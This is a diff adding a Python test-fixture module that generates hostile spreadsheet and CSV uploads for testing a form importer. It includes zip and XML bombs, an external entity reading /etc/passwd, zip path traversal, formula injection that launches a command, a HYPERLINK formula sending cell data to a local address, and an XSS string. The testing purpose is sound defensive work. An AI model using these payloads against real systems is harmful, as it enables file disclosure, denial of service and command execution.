@@ -1,0 +1,386 @@
+"""Files that mean harm, or were harmed on their way, made in memory."""
+
+import io
+import random
+import zipfile
+from collections.abc import Callable, Iterator, Mapping, Sequence
+from typing import NamedTuple
+from xml.sax.saxutils import escape
+
+from tests.imports.workbooks import SURVEY, xlsx
+
+COMPLETE, ERROR, REFUSED = "complete", "error", "refused at once"
+OUTSIDE = "fieldgate-evil"  # no file of this name may appear anywhere
+MEBIBYTE = 1024 * 1024
+SPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+SHEET, STRINGS, RELATIONS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/_rels/workbook.xml.rels"
+HEAD = f'<worksheet xmlns="{SPACE}"><sheetData>'
+TAIL = "</sheetData></worksheet>"
+
+Part = str | bytes | Iterator[bytes]
+
+
+class Hostile(NamedTuple):
+    """A file, what it is called, and how it may end."""
+
+    build: Callable[[], bytes]
+    ends: tuple[str, ...]
+    filename: str = "form.xlsx"
+
+
+def cell(row: int, column: int, text: str) -> str:
+    return f'<c r="{chr(65 + column)}{row}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'
+
+
+def rows_of(rows: Sequence[Sequence[object]], first: int = 1) -> str:
+    return "".join(
+        f'<row r="{number}">{"".join(cell(number, column, str(text)) for column, text in enumerate(row))}</row>'
+        for number, row in enumerate(rows, first)
+    )
+
+
+def changed(parts: Mapping[str, Part], level: int = 6) -> bytes:
+    """A small valid workbook, with some of its parts replaced and others added."""
+    file = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(xlsx())) as valid,
+        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as book,
+    ):
+        for name in valid.namelist():
+            if name not in parts:
+                book.writestr(name, valid.read(name))
+        for name, part in parts.items():
+            with book.open(name, "w", force_zip64=True) as target:
+                for chunk in (part,) if isinstance(part, (str, bytes)) else part:
+                    target.write(chunk.encode() if isinstance(chunk, str) else chunk)
+    return file.getvalue()
+
+
+def sheet(xml: str) -> bytes:
+    return changed({SHEET: f"{HEAD}{rows_of(SURVEY)}{xml}{TAIL}"})
+
+
+def survey(*rows: Sequence[object], columns: Sequence[str] = ("type", "name", "label", "relevant")) -> bytes:
+    return changed({SHEET: HEAD + rows_of((columns, *rows)) + TAIL})
+
+
+# Too much of something
+
+
+def much(size: int, filler: bytes, before: str = "", after: str = "") -> Iterator[bytes]:
+    chunk = filler * (MEBIBYTE // len(filler))
+    yield before.encode()
+    for _ in range(size // MEBIBYTE):
+        yield chunk
+    yield after.encode()
+
+
+def bomb_in_a_cell() -> bytes:
+    """One cell of more than there is memory."""
+    start = HEAD + rows_of(SURVEY) + '<row r="4"><c r="A4" t="inlineStr"><is><t>'
+    return changed({SHEET: much(700 * MEBIBYTE, b"x", start, "</t></is></c></row>" + TAIL)}, level=1)
+
+
+def bomb_in_strings() -> bytes:
+    """Many millions of shared strings that no cell uses."""
+    filler = b"<si><t>12345678</t></si>"
+    before, after = f'<sst xmlns="{SPACE}">', "</sst>"
+    types = (
+        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        '<Default Extension="xml" ContentType="application/xml"/></Types>'
+    )
+    return changed(
+        {
+            STRINGS: much(512 * MEBIBYTE, filler, before, after),
+            RELATIONS: relations(SHEET, extra=f'<Relationship Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml" '
+                                 'Id="rId9"/>'),
+            "[Content_Types].xml": types,
+        },
+        level=1,
+    )  # fmt: skip
+
+
+def bomb_of_spaces() -> bytes:
+    """Nothing at all, for more than there is memory, after the last row."""
+    return changed({SHEET: much(700 * MEBIBYTE, b" ", HEAD + rows_of(SURVEY), TAIL)}, level=1)
+
+
+def million_rows() -> bytes:
+    """Every row a spreadsheet can have, each with a question."""
+
+    def rows() -> Iterator[bytes]:
+        yield (HEAD + rows_of(SURVEY)).encode()
+        for first in range(4, 1_048_577, 4096):
+            numbers = range(first, min(first + 4096, 1_048_577))
+            yield "".join(
+                f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>text</t></is></c>'
+                f'<c r="B{n}" t="inlineStr"><is><t>q{n}</t></is></c></row>'
+                for n in numbers
+            ).encode()
+        yield TAIL.encode()
+
+    return changed({SHEET: rows()}, level=1)
+
+
+def far_cell() -> bytes:
+    """Two cells, at both ends of the largest sheet there is."""
+    return sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
+
+
+def far_beyond() -> bytes:
+    """A cell where no sheet has one."""
+    return sheet('<row r="4294967295"><c r="ZZZZZZ4294967295"><v>1</v></c></row>')
+
+
+def many_questions() -> bytes:
+    """As many rows as are read: whatever compiling them takes, it ends."""
+    rows = [("text", f"q{number}", f"Question {number}", "") for number in range(99_000)]
+    return survey(*rows)
+
+
+def many_problems() -> bytes:
+    """As many mistakes as there are rows."""
+    return survey(*[("florb", f"{number}", "", f"${{nope{number}}} = 1") for number in range(99_000)])
+
+
+def wide_rows() -> bytes:
+    """Fewer rows and columns than the limits, and more cells than anybody needs."""
+    line = ",".join(["", "type", "name", "label", *(f"label::l{n} (l{n})" for n in range(1_900))])
+    row = ",".join(["", "text", "q", *["x"] * 1_901])
+    return "\n".join(["survey,", line, *(row.replace("q", f"q{n}", 1) for n in range(5_000))]).encode()
+
+
+def wide_header() -> bytes:
+    """A table whose first line alone is longer than what is looked at first, and which is fine."""
+    languages = [f"label::Language {n} (l{n})" for n in range(300)]
+    return "\n".join([",".join(["type", "name", *languages]), ",".join(["text", "a", *["A"] * 300])]).encode()
+
+
+# Depth
+
+
+def deep_xml() -> bytes:
+    return sheet("<a>" * 1_000_000 + "</a>" * 1_000_000)
+
+
+def laughs() -> bytes:
+    """Entities in entities: a few lines that mean gigabytes."""
+    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 11))
+    document = f'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY e0 "ha">{entities}]>'
+    more = '<row r="4"><c r="A4" t="inlineStr"><is><t>note</t></is></c><c r="B4" t="inlineStr"><is><t>n</t></is></c>'
+    laugh = '<c r="C4" t="inlineStr"><is><t>&e10;</t></is></c></row>'
+    return changed({SHEET: document + HEAD + rows_of(SURVEY) + more + laugh + TAIL})
+
+
+def outside_entity() -> bytes:
+    """An entity that is a file of this machine."""
+    document = '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
+    row = f'<row r="4">{cell(4, 0, "note")}{cell(4, 1, "n")}<c r="C4" t="inlineStr"><is><t>&e;</t></is></c></row>'
+    return changed({SHEET: document + HEAD + rows_of(SURVEY) + row + TAIL})
+
+
+def deep_groups(depth: int = 3_000) -> bytes:
+    begins = [("begin group", f"g{number}", "G", "") for number in range(depth)]
+    return survey(*begins, ("text", "q", "Q", ""), *[("end group", "", "", "")] * depth)
+
+
+def deep_expression() -> bytes:
+    return survey(("text", "a", "A", ""), ("text", "b", "B", "(" * 30_000 + "${a} = 1" + ")" * 30_000))
+
+
+def unending_expression() -> bytes:
+    """Brackets, quotes and names without end, for whoever looks for their ends."""
+    shapes = ("${" * 20_000, "'" + "a" * 60_000, "a" * 60_000 + "!", "not(" * 15_000, "a/" * 30_000, "1 - " * 15_000)
+    return survey(*[("text", f"q{number}", "Q", shape) for number, shape in enumerate(shapes)])
+
+
+def long_label() -> bytes:
+    return survey(
+        ("text", "a", "<b>" * 20_000, ""), ("text", "b", "${a}" * 15_000, ""), ("text", "c", "*_#[](" * 10_000, "")
+    )
+
+
+# Words that other programs act upon
+
+FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")'
+COMMAND = "=cmd|'/C calc'!A0"
+SCRIPT = "<script>alert(1)</script>"
+
+
+def formula_text() -> bytes:
+    return survey(("text", "a", FORMULA, ""), ("text", "b", COMMAND, ""), ("text", "c", SCRIPT, ""))
+
+
+def formula_csv() -> bytes:
+    quoted = FORMULA.replace('"', '""')
+    return f'type,name,label\ntext,a,"{quoted}"\ntext,b,{COMMAND}\ntext,c,{SCRIPT}\n'.encode()
+
+
+def real_formulas(port: int) -> bytes:
+    """Formulas with the value somebody claims they have, and links to a listener of ours."""
+    address = f"http://127.0.0.1:{port}/"
+    row = (
+        f'<row r="4">{cell(4, 0, "note")}{cell(4, 1, "n")}<c r="C4" t="str"><f>WEBSERVICE("{address}")</f>'
+        "<v>claimed</v></c></row>"
+    )
+    links = f'<hyperlinks><hyperlink ref="C4" r:id="rId1" xmlns:r="{OFFICE}"/></hyperlinks>'
+    document = f'<?xml version="1.0"?><!DOCTYPE worksheet SYSTEM "{address}evil.dtd">'
+    link = f'<Relationship Id="rId1" Type="{OFFICE}/hyperlink" Target="{address}" TargetMode="External"/>'
+    outside = f'<Relationship Id="rId8" Type="{OFFICE}/externalLink" Target="{address}x.xlsx" TargetMode="External"/>'
+    return changed(
+        {
+            SHEET: f"{document}{HEAD}{rows_of(SURVEY)}{row}</sheetData>{links}</worksheet>",
+            "xl/worksheets/_rels/sheet1.xml.rels": relations_of(link),
+            RELATIONS: relations(SHEET, outside),
+        }
+    )
+
+
+def relations_of(inner: str) -> str:
+    return (
+        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inner}</Relationships>'
+    )
+
+
+def relations(target: str, extra: str = "") -> str:
+    first = f'<Relationship Type="{OFFICE}/worksheet" Target="{target}" Id="rId1"/>'
+    return relations_of(first.replace("xl/", "/xl/", 1) + extra)
+
+
+# Paths
+
+
+def paths_in_zip() -> bytes:
+    names = (f"../../../../../../../../tmp/{OUTSIDE}", f"/tmp/{OUTSIDE}", f"..\\..\\{OUTSIDE}", f"xl/../../{OUTSIDE}")
+    return changed(dict.fromkeys(names, "evil"))
+
+
+def sheet_elsewhere() -> bytes:
+    """A workbook that says that its sheet is a file of this machine."""
+    return changed({RELATIONS: relations("../../../../../../etc/passwd")})
+
+
+def same_name_twice() -> bytes:
+    file = io.BytesIO(xlsx())
+    with zipfile.ZipFile(file, "a") as book:
+        info = zipfile.ZipInfo(SHEET.upper())
+        book.writestr(info, HEAD + rows_of((("type", "name"), ("florb", "x"))) + TAIL)
+    return file.getvalue()
+
+
+# Not what it says
+
+
+def cut(share: float) -> bytes:
+    book = xlsx()
+    return book[: int(len(book) * share)]
+
+
+def other_zip() -> bytes:
+    file = io.BytesIO()
+    with zipfile.ZipFile(file, "w") as archive:
+        archive.writestr("word/document.xml", "<document/>")
+    return file.getvalue()
+
+
+def control_characters() -> bytes:
+    """Sheet names and cells with what neither XML nor PostgreSQL stores."""
+    name = "".join(map(chr, (1, 8, 11, 0xFFFE)))
+    book = (
+        f'<workbook xmlns="{SPACE}" xmlns:r="{OFFICE}"><sheets><sheet name="survey" sheetId="1" r:id="rId1"/>'
+        f'<sheet name="choice{name}&#1;" sheetId="2" r:id="rId1"/></sheets></workbook>'
+    )
+    text = "a&#1;b&#x1F;c&#xFFFF;" + name
+    row = f'<row r="4">{cell(4, 0, "note")}{cell(4, 1, "n")}<c r="C4" t="inlineStr"><is><t>{text}</t></is></c></row>'
+    return changed({"xl/workbook.xml": book, SHEET: HEAD + rows_of(SURVEY) + row + TAIL})
+
+
+def control_characters_csv() -> bytes:
+    start = b"type,name,label\n" + b"".join(b"text,q%d,Question\n" % number for number in range(400))
+    return start + b"text,z,a\0b\x01\x0b\xef\xbf\xbf\nflo\0rb,y,\x1f\nfl\x02orb\0,\0,\n"
+
+
+ENDED = (COMPLETE, ERROR)
+
+QUICK: dict[str, Hostile] = {
+    "a cell far away": Hostile(far_cell, (ERROR,)),
+    "a cell beyond": Hostile(far_beyond, ENDED),
+    "deep XML": Hostile(deep_xml, ENDED),
+    "a billion laughs": Hostile(laughs, ENDED),
+    "an entity outside": Hostile(outside_entity, ENDED),
+    "a deep expression": Hostile(deep_expression, ENDED),
+    "long labels": Hostile(long_label, ENDED),
+    "formulas as text": Hostile(formula_text, (COMPLETE,)),
+    "formulas in a csv": Hostile(formula_csv, (COMPLETE,), "form.csv"),
+    "path names in the zip": Hostile(paths_in_zip, (COMPLETE,)),
+    "a path for a name": Hostile(xlsx, (COMPLETE,), f"../../../tmp/{OUTSIDE}.xlsx"),
+    "a sheet elsewhere": Hostile(sheet_elsewhere, (ERROR,)),
+    "a part twice": Hostile(same_name_twice, ENDED),
+    "a tenth of a file": Hostile(lambda: cut(0.1), (ERROR,)),
+    "half a file": Hostile(lambda: cut(0.5), (ERROR,)),
+    "a file but for its end": Hostile(lambda: cut(0.99), (ERROR,)),
+    "four bytes": Hostile(lambda: b"PK\x03\x04", (ERROR,)),
+    "the start of an xls": Hostile(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", (ERROR,), "form.xls"),
+    "an xls of nothing": Hostile(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096), (ERROR,), "form.xls"),
+    "an xls of chance": Hostile(
+        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(1).randbytes(8192), (ERROR,), "form.xls"
+    ),
+    "an empty file": Hostile(lambda: b"", (REFUSED,)),
+    "a picture": Hostile(lambda: b"\x89PNG\r\n\x1a\n" + bytes(200), (REFUSED,)),
+    "a program": Hostile(lambda: b"\x7fELF" + bytes(200), (REFUSED,)),
+    "a page": Hostile(lambda: b"<html><body>hello</body></html>", (REFUSED,)),
+    "chance": Hostile(lambda: random.Random(2).randbytes(5000), (REFUSED,)),
+    "another zip": Hostile(other_zip, (ERROR,)),
+    "a workbook called pdf": Hostile(xlsx, (COMPLETE,), "form.pdf"),
+    "a workbook called csv": Hostile(xlsx, (COMPLETE,), "form.csv"),
+    "a csv called xlsx": Hostile(lambda: b"type,name,label\ntext,a,A\n", (COMPLETE,)),
+    "a csv with a long first line": Hostile(wide_header, (COMPLETE,), "form.csv"),
+    "half of UTF-16": Hostile(lambda: b"\xff\xfet\0y\0p", (ERROR,), "form.csv"),
+    "control characters": Hostile(control_characters, ENDED),
+    "control characters in a csv": Hostile(control_characters_csv, ENDED, "form.csv"),
+}
+
+HEAVY: dict[str, Hostile] = {
+    "unending expressions": Hostile(unending_expression, ENDED),
+    "a bomb in a cell": Hostile(bomb_in_a_cell, (ERROR,)),
+    "a bomb of nothing": Hostile(bomb_of_spaces, ENDED),
+    "millions of strings": Hostile(bomb_in_strings, (ERROR,)),
+    "1,048,576 rows": Hostile(million_rows, (ERROR,)),
+    "deep groups": Hostile(deep_groups, ENDED),
+    "many questions": Hostile(many_questions, ENDED),
+    "many problems": Hostile(many_problems, (ERROR,)),
+    "wide rows": Hostile(wide_rows, ENDED, "form.csv"),
+}
+
+
+def mutated(book: bytes, chance: random.Random) -> bytes:
+    """The file after one to eight accidents: bytes changed, cut out, put in, moved, or cut off."""
+    data = bytearray(book)
+    for _ in range(chance.choice((1, 1, 1, 2, 4, 8))):
+        place = chance.randrange(len(data)) if data else 0
+        length = chance.choice((1, 2, 4, 16, 200))
+        accident = chance.randrange(5)
+        if accident == 0:
+            data[place : place + 1] = bytes([chance.randrange(256)])
+        elif accident == 1:
+            data[place : place + length] = b""
+        elif accident == 2:
+            data[place:place] = chance.randbytes(length)
+        elif accident == 3:
+            data[place : place + length] = data[chance.randrange(len(data) + 1) :][:length]
+        else:
+            data = data[: max(place, len(data) // 2)]
+    return bytes(data)
+
+
+def mutated_within(book: bytes, chance: random.Random) -> bytes:
+    """The same accidents inside one part of the archive, which is then packed anew, so that readers get to see them."""
+    file = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(book)) as valid, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as changed_book:
+        names = valid.namelist()
+        victim = chance.choice([name for name in names if name.endswith((".xml", ".rels"))])
+        for name in names:
+            data = valid.read(name)
+            changed_book.writestr(name, mutated(data, chance) if name == victim else data)
+    return file.getvalue()
